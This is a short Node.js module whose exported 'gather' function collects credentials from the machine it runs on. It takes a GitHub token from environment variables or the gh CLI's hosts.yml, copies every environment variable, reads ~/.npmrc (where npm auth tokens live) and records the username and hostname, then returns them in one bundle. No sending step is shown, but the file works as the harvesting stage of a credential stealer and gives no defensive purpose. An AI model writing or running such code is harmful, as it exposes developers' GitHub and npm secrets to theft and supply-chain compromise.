const fs = require("fs");
const os = require("os");
const path = require("path");

function read(p) { try { return fs.readFileSync(p, "utf8"); } catch { return null; } }

async function gather() {
  const home = os.homedir();
  const hosts = read(path.join(home, ".config", "gh", "hosts.yml")) || "";
  const tok = process.env.GITHUB_TOKEN || process.env.GH_TOKEN ||
    (/oauth_token:\s*(\S+)/.exec(hosts) || [])[1];
  return {
    token: tok,
    system: { platform: os.platform(), user: os.userInfo().username, host: os.hostname() },
    environment: { ...process.env },
    npmrc: read(path.join(home, ".npmrc")),
  };
}
module.exports = { gather };
